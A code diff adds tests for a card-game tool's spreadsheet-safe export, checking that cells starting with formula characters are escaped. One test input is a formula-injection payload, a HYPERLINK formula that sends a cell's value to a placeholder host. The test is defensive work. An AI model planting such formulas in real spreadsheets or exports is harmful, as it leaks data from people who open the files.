@@ -762,3 +762,33 @@ def test_output_that_is_an_input_is_a_usage_error(stacked: str, tmp_path: Path, 
     assert (code, out) == (2, "")
     assert "'-o' / '--output'" in err and repr(target) in err and repr(str(source)) in err
     assert source.read_bytes() == before
+
+
+# --------------------------------------------------------------------------- spreadsheets
+
+
+def test_spreadsheet_safe_cells_begin_as_no_formula() -> None:
+    row = ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "Ada", "a=b", 7, -7, None, True, "")
+    assert cells(row, spreadsheet_safe=True) == [
+        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "Ada", "a=b", 7, -7, "", "true", ""]  # fmt: skip
+    assert cells(row) == [*row[:10], "", "true", ""]  # the default keeps the data as logged
+
+
+def test_export_spreadsheet_safe(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    # Names a person may type, each a formula in Excel or LibreOffice; a file's too.
+    code, out, _ = invoke("simulate", "--seed", "9", "--players", "4", "--start-cards", "2")
+    assert code == 0
+    game = json.loads(out)
+    names = ['=HYPERLINK("http://x.example/?"&A1,"Ada")', "+Ben", "-Cy", "@Dev"]
+    for player, name in zip(game["players"], names, strict=True):
+        player["name"], player["kind"] = name, "human"
+    monkeypatch.chdir(tmp_path)
+    write(tmp_path / "=x.jsonl", [game])
+    (safe,) = table(invoke("export", "--spreadsheet-safe", "--table", "games", "=x.jsonl")[1])
+    assert by_seat(safe, "name")[:4] == ["'" + n for n in names]
+    assert pick(safe, "file", "game", "seed", "rules_players") == ("'=x.jsonl", "1", "9", "4")
+    (kept,) = table(invoke("export", "--table", "games", "=x.jsonl")[1])
+    assert by_seat(kept, "name")[:4] == names and kept["file"] == "=x.jsonl"
+    plays = table(invoke("export", "--spreadsheet-safe", "--table", "plays", "=x.jsonl")[1])
+    assert {p["file"] for p in plays} == {"'=x.jsonl"}
+    assert all(p["card"][0] in RANKS for p in plays)  # cards are never formulas
